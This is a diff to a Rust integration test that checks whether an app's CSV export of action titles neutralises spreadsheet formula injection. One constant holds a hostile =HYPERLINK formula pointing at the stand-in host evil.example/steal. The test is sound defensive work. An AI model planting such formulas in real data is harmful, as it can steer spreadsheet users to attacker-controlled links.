@@ -4,7 +4,7 @@
 use app::Role;
 use domain::seeds;
 use serde_json::{Value, json};
-use tests::{TestStore, on_both_backends, spawn_app};
+use tests::{TestStore, make_commitment, on_both_backends, spawn_app};
 
 use super::answer;
 
@@ -110,8 +110,29 @@ async fn bad_report_requests_are_problems(db: &TestStore) {
     app.stop().await;
 }
 
+/// The title of an action written by someone hoping a spreadsheet runs it.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/steal\",\"Open the plan\")";
+
+async fn a_formula_in_an_action_title_comes_out_of_csv_as_text(db: &TestStore) {
+    let app = spawn_app(db).await;
+    app.load(&seeds::lincolnshire()).await;
+    let secretariat = app.token(Role::Secretariat, None).await;
+    let mut command = make_commitment(0);
+    command["title"] = FORMULA.into();
+    let made = app.post("/api/v1/commitments", &secretariat, &command).send().await.expect("post");
+    assert_eq!(made.status(), 201);
+    let reader = app.token(Role::Reader, None).await;
+    let csv = app.get("/api/v1/actions?organisation=GB-LAE-WLI", &reader).header("accept", "text/csv").send().await;
+    let csv = csv.expect("get").text().await.expect("a body");
+    let neutralised = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
+    assert!(csv.contains(&neutralised), "the title starts with ' in the CSV: {csv}");
+    assert!(!csv.contains(",\"=") && !csv.lines().any(|l| l.starts_with("\"=")), "no cell starts with =: {csv}");
+    app.stop().await;
+}
+
 on_both_backends!(
     reports_answer_with_filters_pages_and_past_points,
+    a_formula_in_an_action_title_comes_out_of_csv_as_text,
     reports_see_the_command_just_recorded,
     bad_report_requests_are_problems,
 );
